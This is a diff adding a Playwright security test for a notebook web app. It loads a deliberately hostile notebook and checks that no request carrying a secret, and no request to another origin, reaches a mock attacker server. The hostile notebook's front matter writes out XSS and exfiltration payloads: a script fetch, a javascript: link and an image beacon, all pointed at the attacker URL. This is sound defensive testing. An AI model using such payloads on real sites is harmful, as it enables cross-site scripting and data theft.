@@ -1,0 +1,95 @@
+import { type BrowserContext, expect, type Page, test } from "@playwright/test";
+import { pack } from "../../src/notebook/link.ts";
+import { makeHost } from "../journeys/host.ts";
+import { t } from "../journeys/steps.ts";
+import { type Attacker, makeAttacker } from "./attacker.ts";
+import { elements } from "./elements.ts";
+import { records, secret, statements } from "./statements.ts";
+
+/** A notebook of attacks: every statement a cell, every element a paragraph; a cell that still answers at the end. */
+function hostile(url: string): { readonly text: string; readonly attacks: number } {
+  const cells = statements(url).map((sql, i) => `\`\`\`sql id=attack_${i}\n${sql}\n\`\`\`\n`);
+  const parts = elements(url);
+  const text = `---
+title: <img src=${url}/title.png>
+description: "<script>fetch('${url}/description')</script>"
+byline: "[by](javascript:fetch('${url}'))"
+lang: en
+---
+Two and two are \${alive.four}.
+
+${[records, ...parts, ...cells, "```sql id=alive\nSELECT 2 + 2 AS four\n```\n"].join("\n")}`;
+  return { text, attacks: cells.length + parts.length };
+}
+
+/** What left the page, or would have: requests that carry the secret or go to another origin, and breaches of the policy. */
+function watch(context: BrowserContext, own: string): string[] {
+  const left: string[] = [];
+  context.on("request", (request) => {
+    const { origin, protocol } = new URL(request.url());
+    if (protocol === "blob:" || protocol === "data:") return;
+    if (origin !== new URL(own).origin || request.url().includes(secret)) left.push(request.url());
+  });
+  context.on("dialog", (dialog) => left.push(`dialog: ${dialog.message()}`));
+  context.on("page", (page) => left.push(`window: ${page.url()}`));
+  return left;
+}
+
+/** Waits until every cell has answered or failed, and what holds is as it was. */
+async function intact(page: Page): Promise<void> {
+  await expect(page.locator(".mark.running, .boot, [aria-busy=true]")).toHaveCount(0, { timeout: 90_000 });
+  await expect(page.locator("main p data").first()).toHaveText("4", { timeout: 90_000 });
+}
+
+let attacker: Attacker;
+test.beforeAll(async () => {
+  attacker = await makeAttacker();
+});
+test.afterAll(() => attacker.close());
+test.beforeEach(() => expect(attacker.log).toEqual([]));
+
+test("the attacker's server hears a page that is not on its guard", async ({ page }) => {
+  const listener = await makeAttacker();
+  await page.setContent(`<img src="${listener.url}/heard">`, { waitUntil: "load" });
+  expect(listener.log).toContain("GET /heard");
+  listener.close();
+});
+
+const hosts = [
+  { name: "with the policy as a header", open: async (url: string) => ({ url, close: () => {} }) },
+  { name: "with the policy in the page alone", open: () => makeHost("dist", "/studies/arms/") },
+];
+
+for (const host of hosts)
+  test(`nothing of a hostile notebook reaches the attacker, ${host.name}`, async ({ page, context, baseURL }) => {
+    const { url, close } = await host.open(`${baseURL}/`);
+    const left = watch(context, url);
+    const { text, attacks } = hostile(attacker.url);
+    try {
+      await page.goto(`${url}#n=${await pack(text)}`);
+      await expect(page.getByRole("heading", { name: t.ui.consent.title })).toBeVisible();
+      expect(left, "a stranger's notebook, before it runs").toEqual([]);
+      await expect(page.locator('main a[href]:not([href^="#"])')).toHaveCount(0);
+
+      await page.getByRole("button", { name: t.ui.consent.run }).click();
+      await intact(page);
+      expect(left, "a stranger's notebook, when it ran").toEqual([]);
+
+      await page.getByRole("button", { name: t.ui.consent.save }).first().click();
+      await expect(page).toHaveURL(/#\/own\//);
+      await expect(page.getByText(t.ui.notebook.saved("saved"))).toBeVisible();
+      await page.goto(page.url().replace(/\?.*$/, ""));
+      await page.reload();
+      await intact(page);
+      for (const link of await page.locator("main a[href]").all())
+        expect(await link.getAttribute("href")).not.toMatch(new RegExp(`${secret}|^javascript|^data`, "i"));
+      expect(left, "the reader's own copy, which runs at once").toEqual([]);
+      expect(attacker.log).toEqual([]);
+    } finally {
+      close();
+    }
+    test
+      .info()
+      .annotations.push({ type: "attacks", description: `${attacks} tried three times, 0 reached the attacker` });
+    process.stdout.write(`${host.name}: ${attacks} attacks, each tried three times; 0 requests reached the attacker\n`);
+  });
